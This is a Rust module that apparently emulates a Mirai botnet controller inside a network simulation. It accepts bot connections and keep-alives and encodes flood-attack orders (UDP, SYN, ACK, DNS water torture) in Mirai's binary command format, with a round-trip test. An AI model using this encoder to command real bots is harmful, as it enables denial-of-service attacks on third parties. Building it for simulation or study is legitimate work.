//! The controller: bots connect, say who they are, ping, and get their orders in Mirai's binary form.

use crate::{
    city::{
        plan::Vector,
        world::{World, lock},
    },
    error::Result,
    things::serve_tcp,
    wire::{long, word},
};
use std::{
    io::{ErrorKind, Read, Write},
    net::{Ipv4Addr, TcpStream},
    sync::{Arc, Mutex},
    time::Duration,
};

/// Bots that are connected.
#[derive(Clone, Debug, Default)]
pub(crate) struct Bots(Arc<Mutex<Vec<TcpStream>>>);

impl Bots {
    /// Sends an order to every connected bot; gives how many there were.
    pub(crate) fn order(&self, order: &Order) -> usize {
        let bytes = order.bytes();
        let mut bots = lock(&self.0);
        bots.retain_mut(|bot| bot.write_all(&bytes).is_ok());
        bots.len()
    }

    /// How many are connected.
    pub(crate) fn count(&self) -> usize {
        lock(&self.0).len()
    }
}

/// Serves bots.
pub(crate) fn serve(world: &Arc<World>, bots: &Bots) -> Result<()> {
    let (world, bots) = (Arc::clone(world), bots.clone());
    serve_tcp(world.plan.ports.controller, 16, move |mut stream, from| {
        let mut hello = [0; 5];
        let _ = stream.set_read_timeout(Some(Duration::from_secs(60)));
        if stream.read_exact(&mut hello).is_err() || !hello.starts_with(&[0, 0, 0, 1]) {
            return;
        }
        let mut id = vec![0; usize::from(hello.last().copied().unwrap_or(0))];
        if stream.read_exact(&mut id).is_err() {
            return;
        }
        if let (std::net::IpAddr::V4(address), Ok(clone)) = (from.ip(), stream.try_clone()) {
            lock(&bots.0).push(clone);
            world.say(format!("the bot in {} is with its controller", world.plan.name(address)));
        }
        let mut ping = [0; 2];
        while stream.read_exact(&mut ping).is_ok() && stream.write_all(&ping).is_ok() {}
    })
}

/// An order to attack.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Order {
    pub(crate) seconds: u32,
    pub(crate) vector: Vector,
    pub(crate) target: Ipv4Addr,
    pub(crate) domain: String,
}

const OPTION_PORT: u8 = 7;
const OPTION_DOMAIN: u8 = 8;

const fn number(vector: Vector) -> u8 {
    match vector {
        Vector::Udp => 0,
        Vector::TortureByResolver => 2,
        Vector::Syn => 3,
        Vector::Ack => 4,
        Vector::Torture => 11,
    }
}

impl Order {
    /// Length, duration, vector, targets, options: as Mirai's bot reads them.
    pub(crate) fn bytes(&self) -> Vec<u8> {
        let mut body = self.seconds.to_be_bytes().to_vec();
        body.extend([number(self.vector), 1]);
        body.extend(self.target.octets());
        body.extend([32, 2, OPTION_PORT, 2, b'5', b'3', OPTION_DOMAIN, self.domain.len() as u8]);
        body.extend(self.domain.bytes());
        let length = (body.len() + 2) as u16;
        [length.to_be_bytes().as_slice(), &body].concat()
    }

    fn read(body: &[u8]) -> Option<Self> {
        let vector = *body.get(4)?;
        let vector = [Vector::Udp, Vector::TortureByResolver, Vector::Syn, Vector::Ack, Vector::Torture]
            .into_iter()
            .find(|known| number(*known) == vector)?;
        let length = usize::from(*body.get(17)?);
        let domain = String::from_utf8_lossy(body.get(18..18 + length)?).into_owned();
        Some(Self { seconds: long(body, 0)?, vector, target: long(body, 6)?.into(), domain })
    }
}

/// What a bot read from its controller.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Word {
    /// A keep-alive.
    Ping,
    /// An attack.
    Attack(Order),
    /// Nothing yet.
    Nothing,
    /// The connection ended.
    Gone,
}

/// Reads the next word of the controller, or nothing where none came in the stream's time.
pub(crate) fn listen(stream: &mut TcpStream) -> Word {
    let mut length = [0; 2];
    match stream.read_exact(&mut length) {
        Ok(()) => {}
        Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
            return Word::Nothing;
        }
        Err(_) => return Word::Gone,
    }
    let length = usize::from(word(&length, 0).unwrap_or(0));
    if length == 0 {
        return Word::Ping;
    }
    let mut body = vec![0; length.saturating_sub(2).min(512)];
    match stream.read_exact(&mut body) {
        Ok(()) => Order::read(&body).map_or(Word::Gone, Word::Attack),
        Err(_) => Word::Gone,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn orders_read_back() {
        for vector in [Vector::Udp, Vector::Syn, Vector::Ack, Vector::Torture, Vector::TortureByResolver] {
            let order = Order {
                seconds: 12,
                vector,
                target: Ipv4Addr::new(198, 18, 0, 1),
                domain: "news.example".into(),
            };
            let bytes = order.bytes();
            assert_eq!(word(&bytes, 0).map(usize::from), Some(bytes.len()));
            assert_eq!(Order::read(&bytes[2..]), Some(order));
            for cut in 2..bytes.len() {
                assert_eq!(Order::read(&bytes[2..cut]), None);
            }
        }
    }
}
